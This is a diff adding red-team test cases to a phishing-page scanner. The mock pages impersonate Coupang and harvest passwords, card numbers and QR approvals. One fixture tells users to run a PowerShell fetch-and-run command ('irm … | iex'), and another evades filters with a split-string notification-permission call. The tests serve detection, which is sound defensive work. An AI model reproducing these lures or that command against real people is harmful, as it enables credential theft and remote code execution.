@@ -258,3 +258,60 @@ describe("tune-ab's classes, third part", () => {
     expect(r.reasons.map((x) => x.code)).toContain('app-download');
   });
 });
+
+describe("page28's red team: the same classes, written otherwise", () => {
+  it('a picture heading a form three lines up, four boxes out, past a tracking pixel', () => {
+    const kit = page(
+      '회원 확인',
+      `<div class="mast"><b>새날경제신문</b></div><h1>유출 조회 창구 열려</h1><div><img src="${wordmark}" alt=""><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="1" height="1"><p>회원 유출 여부 조회</p><p>아래에 입력하세요.</p><p>1분이면 끝납니다.</p>` +
+        '<div class="card"><div class="card-body"><div class="row"><form><input placeholder="이메일"><input type="password" placeholder="비밀번호"><button>조회</button></form></div></div></div></div>',
+    );
+    expect(scan(kit, 'https://member-check.example/').verdict).toBe('suspicious-page');
+  });
+  it('a partner’s picture over a form on a page that shows a name of its own stays clean', () => {
+    const rental = page(
+      '쿠팡트래블 예약 고객 차량 인수 등록 | 바로카',
+      `<header><b>바로카</b></header><main><h1>쿠팡트래블 예약 고객 차량 인수 등록</h1><img src="${wordmark}" alt="쿠팡트래블"><p>예약하신 차량을 인수하려면 운전자 정보를 등록해 주세요.</p>` +
+        '<form><input placeholder="운전자 성명"><input placeholder="생년월일"><input placeholder="휴대폰"><input placeholder="운전면허번호"><button>등록</button></form></main><footer>© 바로카(주)</footer>',
+    );
+    expect(scan(rental, 'https://www.barocar.example/coupang-travel/book').verdict).toBe('clean');
+  });
+  it('reads Japanese card words as tight() folds their kana (カード is カート)', () => {
+    const kit = page(
+      'クーパン お支払い確認',
+      '<div class="logo">Coupang</div><h2>クーパン お支払い情報の再登録</h2><input placeholder="カード番号"><input placeholder="有効年月"><input placeholder="セキュリティコード"><button>送信</button>',
+    );
+    expect(scan(kit, 'https://pay-check.example/jp').verdict).toBe('suspicious-page');
+  });
+  it('reads "앱에서 확인 버튼을 눌러" after a scan, and a TV named only as a cover', () => {
+    for (const told of [
+      '휴대폰으로 스캔 후 쿠팡 앱에서 [확인] 버튼을 눌러 주세요.',
+      '쿠팡플레이 TV 연결 요청입니다: 휴대폰으로 스캔 후 쿠팡 앱에서 승인하세요.',
+    ]) {
+      const kit = page(
+        '본인 확인',
+        `<div class="logo">쿠팡</div><h2>본인 확인</h2><img alt="QR" src="${wordmark}"><p>${told}</p>`,
+      );
+      expect(scan(kit, 'https://verify-now.example/').verdict, told).toBe('suspicious-page');
+    }
+  });
+  it('reads a fetch-and-run command styled as code in a plain box, and a push call spelt from pieces in a handler', () => {
+    const cmd = page(
+      '문서 오류',
+      '<div class="logo">coupang</div><h2>영수증 PDF 열기 오류</h2><p>PowerShell에서 다음 명령을 실행하세요.</p><div style="font-family:Consolas">irm fix.example/f | iex</div>',
+    );
+    expect(scan(cmd, 'https://doc-fix.example/').verdict).toBe('suspicious-page');
+    const push = page(
+      '알림',
+      `<div class="logo">coupang</div><h3>"허용"을 누르면 보상 캐시 3,000원 적립</h3><button onclick="window['Noti'+'fication']['request'+'Permission']()">허용</button>`,
+    );
+    expect(scan(push, 'https://push-now.example/').verdict).toBe('suspicious-page');
+  });
+  it('a Chinese shopping guide asking a WeChat id for a consultation stays clean', () => {
+    const guide = page(
+      '酷澎购物指南 | 韩华生活',
+      '<header><b>韩华生活</b></header><h1>酷澎购物指南</h1><p>在韩国使用酷澎购物的方法。需要帮助请留下联系方式。</p><form><input placeholder="姓名"><input placeholder="手机号码"><input placeholder="微信号"><button>咨询</button></form><footer>© 韩华生活</footer>',
+    );
+    expect(scan(guide, 'https://www.hanhua-guide.example/zh/coupang-howto').verdict).toBe('clean');
+  });
+});
